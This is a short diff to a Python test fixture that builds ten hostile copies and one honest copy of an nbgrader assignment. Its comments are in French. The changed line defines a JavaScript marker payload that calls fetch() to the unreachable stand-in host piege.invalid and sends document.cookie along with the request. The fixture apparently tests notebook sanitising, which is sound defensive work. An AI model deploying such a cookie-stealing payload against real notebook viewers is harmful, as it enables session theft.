@@ -1,5 +1,6 @@
 """Dix copies hostiles et une honnête d'un devoir nbgrader ordinaire : ce qu'elles tentent contre qui les ouvre."""
 
+# ruff: noqa: E501 - une charge hostile se lit sur une ligne
 import base64
 import json
 import struct
@@ -11,7 +12,7 @@ from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_
 DEVOIR_OUVERT = "ouvert"
 CARNET = "enquete"
 PIEGE = "http://piege.invalid"  # « .invalid » n'existe pas : une requête s'y voit, elle n'y arrive pas
-MARQUE = "window.PIEGE=(window.PIEGE||0)+1;document.title='PIEGE';fetch('%s/vol?'+document.cookie)" % PIEGE
+MARQUE = f"window.PIEGE=(window.PIEGE||0)+1;document.title='PIEGE';fetch('{PIEGE}/vol?'+document.cookie)"
 ENONCE = (
     "# Enquête\n\n**Lisez** puis répondez. <div class='alert alert-info'>Un encadré de l'enseignant.</div>\n\n"
     "[Le site du ministère](https://www.education.gouv.fr)"
